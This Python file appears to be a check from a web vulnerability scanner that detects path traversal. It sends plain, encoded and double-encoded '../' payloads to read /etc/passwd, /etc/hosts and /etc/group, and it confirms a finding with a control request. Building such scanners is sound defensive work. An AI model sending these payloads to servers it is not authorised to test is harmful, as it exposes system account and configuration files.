"""The server hands out files by their path in the address, and `../` in it, plain or in a coded form, leads out of
the folder that is meant to be served.

## Impact
Any file the server may read can be fetched without a log-in: source code, configuration with passwords and keys,
other users' data, the accounts of the machine.

## Remediation
Renew the web server, framework or package that serves the files, and leave the serving of files to it: decode the
path once, resolve it completely (`realpath`), and refuse what does not lie below the folder. Links that lead out of
the folder should not be followed.

## How it is proven
Two different well-known files come back, each recognised by its structure (account lines, host lines), by the same
form of path below the same folder, sent exactly as written; the same form with a name that cannot exist does not
show them, nor does the folder's page.
"""

from collections.abc import AsyncIterator, Iterator

from cyberai.checkkit import (
    Exchange,
    Grain,
    Hit,
    HttpEvidence,
    HttpRequest,
    Oracle,
    OriginAsset,
    Probe,
    Proof,
    Scope,
    Severity,
    Struct,
    Url,
    check,
)
from cyberai.checkkit.markup import elements
from cyberai.checkkit.system_files import ACCOUNTS, GROUPS, HOSTS
from cyberai.checkkit.text import Pattern, excerpt
from cyberai.domain.scope import base_path

_MAX_FOLDERS = 5
_UP = 12
# What is put between the folder and `etc/passwd`.
_FORMS = (
    ("dots", "../" * _UP),
    ("coded dots", "%2e%2e/" * _UP),
    ("coded slashes", "..%2f" * _UP),
    ("coded twice", "%252e%252e%252f" * _UP),
    ("an absolute path", "/"),
)


class _File(Struct, frozen=True):
    path: str
    structure: Pattern


_FIRST = _File("etc/passwd", ACCOUNTS)
_OTHERS = (_File("etc/hosts", HOSTS), _File("etc/group", GROUPS))


@check(
    id="web.traversal-by-path",
    title="Path traversal in the address",
    severity=Severity.HIGH,
    cvss="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
    cwe=("CWE-22",),
    owasp=("A01:2021",),
    scope=Scope.ORIGIN,
    grain=Grain.ORIGIN,
    max_requests=48,
    references=("https://owasp.org/www-community/attacks/Path_Traversal",),
    tags=("file", "static"),
)
async def traversal_by_path(origin: OriginAsset, probe: Probe) -> AsyncIterator[Hit]:
    """Every form below the entry's folder and below the folders of its files; one hit per folder of
    files, or one for the whole site."""
    page = await probe.get(origin.url)
    found = False
    for folder in _folders(page):
        if found and folder.path == base_path(origin.url):
            return
        for name, form in _FORMS:
            first = await _ask(probe, folder, form, _FIRST.path)
            if not _shows(_FIRST, first) or _shows(_FIRST, page):
                continue
            hit = await _prove(probe, folder, (name, form), first)
            if hit is not None:
                found = True
                yield hit
            # One form is enough; and a program that shows such text for any name does so for the other forms too.
            break


def _folders(page: Exchange) -> list[Url]:
    """The entry's folder, and the first folders of the pictures, scripts and styles that the entry shows: what a
    server hands out by itself. Files that are only linked are tested as inputs."""
    base = base_path(page.request.url)
    found: dict[str, Url] = {base: page.request.url.with_target(base)}
    for url in _references(page):
        folder, _, name = url.path.rpartition("/")
        if url.origin == page.request.url.origin and folder.startswith(base) and "." in name:
            found.setdefault(f"{folder}/", url.with_target(f"{folder}/"))
    # Files lie deepest where programs that answer any path do not: the folders of files come first.
    return [*list(found.values())[1:_MAX_FOLDERS], found[base]]


def _references(page: Exchange) -> Iterator[Url]:
    if "html" not in page.response.content_type:
        return
    for node in elements(page.response.body):
        reference = node.attributes.get("href" if node.tag == "link" else "src")
        if not reference:
            continue
        try:
            yield page.request.url.join(reference)
        except ValueError:
            continue


async def _ask(probe: Probe, folder: Url, form: str, path: str) -> Exchange:
    return await probe.send(HttpRequest("GET", folder.with_target(f"{folder.path}{form}{path}")))


def _shows(file: _File, answer: Exchange) -> bool:
    return file.structure.search(answer.response.body) is not None


async def _prove(probe: Probe, folder: Url, form: tuple[str, str], first: Exchange) -> Hit | None:
    control = await _ask(probe, folder, form[1], f"etc/{probe.token()}")
    if _shows(_FIRST, control):
        return None
    for other in _OTHERS:
        second = await _ask(probe, folder, form[1], other.path)
        if _shows(other, second) and not _shows(other, control):
            return _hit(folder, form[0], ((_FIRST, first), (other, second)), control)
    return None


def _hit(folder: Url, form: str, shown: tuple[tuple[_File, Exchange], ...], control: Exchange) -> Hit:
    def evidence(file: _File, exchange: Exchange) -> HttpEvidence:
        match = file.structure.search(exchange.response.body)
        text = excerpt(match.text, 300).strip() if match else ""
        note = f"The answer holds /{file.path}; a file that does not exist is not shown."
        return HttpEvidence(exchange, control, text, note)

    names = ", ".join(f"/{file.path}" for file, _ in shown)
    return Hit(
        proof=Proof(Oracle.EXECUTED, repeats=2, control_silent=True),
        evidence=tuple(evidence(file, exchange) for file, exchange in shown),
        url=folder,
        cause=folder.path,
        detail=f"Below {folder.path} by {form}; files read: {names}.",
    )
